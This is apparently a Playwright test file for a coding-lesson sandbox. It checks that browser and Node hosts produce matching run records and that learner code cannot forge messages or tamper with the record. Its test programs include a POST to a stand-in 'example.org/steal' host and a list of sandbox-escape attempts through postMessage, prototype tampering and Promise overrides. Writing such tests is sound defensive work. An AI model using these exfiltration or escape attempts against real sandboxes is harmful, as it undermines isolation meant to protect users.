/**
 * One runtime, two hosts: the same programs run in the browser's sandbox (through a live example, as a
 * reader runs them) and in the Node host, and their run records agree, times aside.
 */
import { createNodeRunner } from '../src/runner/node/node-host.ts';
import type { RunRecord } from '../src/runner/run-record.ts';
import { expect as baseExpect, liveExample, narrowScreen, replaceCode, test } from './fixtures';

const expect = baseExpect.configure({ timeout: 20_000 });

const LESSON = '/lessons/first-request/';
const FIRST = 'Your first GET request';

const PROGRAMS: Record<string, string> = {
  'console methods': [
    "console.log('log', 1, { a: [1, 2] });",
    "console.info('info'); console.warn('warn'); console.error('error'); console.debug('debug');",
    "console.count(); console.count(); console.count('x'); console.countReset(); console.count();",
    "console.group('group'); console.log('inside'); console.groupEnd(); console.log('outside');",
    "console.assert(1 === 2, 'assertion message'); console.assert(true, 'never shown');",
    "console.time('t'); console.timeEnd('t');",
    "console.table([{ a: 1, b: 'x' }]);",
  ].join('\n'),
  'timers left pending': [
    "setTimeout(() => console.log('later'), 50);",
    "const id = setInterval(() => { console.log('tick'); clearInterval(id); }, 10);",
    "console.log('now');",
  ].join('\n'),
  'a foreign host': [
    "try { await fetch('https://example.org/steal', { method: 'POST', body: 'x' }); }",
    'catch (error) { console.log(String(error)); }',
  ].join('\n'),
  'an uncaught error': "console.log('before');\nthrow new TypeError('boom');",
  'a rejected promise':
    "Promise.reject(new RangeError('nobody caught me'));\nconsole.log('after');",
  '/hang with a deadline': [
    'try {',
    "  await fetch('https://api.example.com/hang', { signal: AbortSignal.timeout(300) });",
    '} catch (error) { console.log((error as Error).name); }',
  ].join('\n'),
  '/hang with no deadline': "await fetch('https://api.example.com/hang');",
};

/** What both hosts must agree on: everything but the times. */
function comparable(record: RunRecord) {
  return {
    outcome: record.outcome,
    message: record.message,
    error: record.error,
    console: record.console.map((line) => ({
      ...line,
      text: line.text.replace(/\d+(\.\d+)? ?ms/g, 'N ms'),
    })),
    network: record.network.map(({ startMs, endMs, ...row }) => ({
      ...row,
      ended: endMs !== null && endMs >= startMs,
    })),
  };
}

test.use({ permissions: ['clipboard-read', 'clipboard-write'], ...narrowScreen });

test('the browser and Node hosts give the same run record for the same programs', async ({
  page,
}) => {
  test.setTimeout(240_000);
  const runner = createNodeRunner();
  // Sandboxes keep the reader's developer tools quiet: SES says nothing of the built-ins it removes.
  const sesNotes: string[] = [];
  page.on('console', (message) => {
    if (/SES|intrinsics/.test(message.text())) sesNotes.push(message.text());
  });
  try {
    await page.goto(LESSON);
    const first = liveExample(page, FIRST);
    for (const [name, code] of Object.entries(PROGRAMS)) {
      const inNode = await runner.run(code, { clock: 'real' }).done;
      // Every program leaves a trace, so an empty record in both hosts cannot pass for agreement.
      expect(inNode.console.length + inNode.network.length, name).toBeGreaterThan(0);
      await replaceCode(page, first, code);
      await first.region.evaluate((element) => {
        (window as unknown as { previous: unknown }).previous = (
          element as { record?: unknown }
        ).record;
      });
      await first.run.click();
      await expect
        .poll(
          () =>
            first.region.evaluate(
              (element) =>
                (element as { record?: unknown }).record !==
                (window as unknown as { previous: unknown }).previous,
            ),
          { timeout: 30_000 },
        )
        .toBe(true);
      const inBrowser = (await first.region.evaluate(
        (element) => (element as unknown as { record: unknown }).record,
      )) as RunRecord;
      expect(comparable(inBrowser), name).toEqual(comparable(inNode));
      await expect(first.region).toHaveAttribute('data-state', inNode.outcome!);
    }
    expect(sesNotes).toEqual([]);
  } finally {
    runner.dispose();
  }
});

test('learner code finds no route to post messages to the page or bend the record', async ({
  page,
}) => {
  await page.goto(LESSON);
  const first = liveExample(page, FIRST);
  const forged = JSON.stringify({
    type: 'console',
    method: 'log',
    source: 'code',
    args: [{ type: 'string', value: 'FORGED' }],
    depth: 0,
    time: 0,
  });
  await replaceCode(
    page,
    first,
    [
      'const g = globalThis as any;',
      `const message = ${forged};`,
      'const routes: [string, () => unknown][] = [',
      "  ['postMessage', () => g.postMessage(message)],",
      "  ['self.postMessage', () => g.self.postMessage(message)],",
      "  ['prototype postMessage', () => Object.getPrototypeOf(g).postMessage.call(g, message)],",
      "  ['deeper prototype', () => Object.getPrototypeOf(Object.getPrototypeOf(g)).postMessage.call(g, message)],",
      "  ['close', () => g.close()],",
      "  ['Response status', () => Object.defineProperty(Response.prototype, 'status', { get: () => 200 })],",
      "  ['Promise then', () => { (Promise.prototype as any).then = () => 0; }],",
      '];',
      'for (const [name, route] of routes) {',
      "  try { route(); console.log(name, 'worked'); } catch { console.log(name, 'blocked'); }",
      '}',
      "const response = await fetch('https://api.example.com/users/99999');",
      'console.log(response.status);',
    ].join('\n'),
  );
  await first.run.click();
  await expect(first.region).toHaveAttribute('data-state', 'finished', { timeout: 30_000 });
  const record = (await first.region.evaluate(
    (element) => (element as unknown as { record: unknown }).record,
  )) as RunRecord;
  expect(record.console.map((line) => line.text)).toEqual([
    'postMessage blocked',
    'self.postMessage blocked',
    'prototype postMessage blocked',
    'deeper prototype blocked',
    'close blocked',
    'Response status blocked',
    'Promise then blocked',
    '404',
  ]);
  expect(record.network).toEqual([
    expect.objectContaining({ url: 'https://api.example.com/users/99999', status: 404 }),
  ]);
  await expect(first.console).not.toContainText('FORGED');
  // The Network table says the same as the record.
  await expect(first.network.getByRole('row').nth(1)).toContainText('404');
});
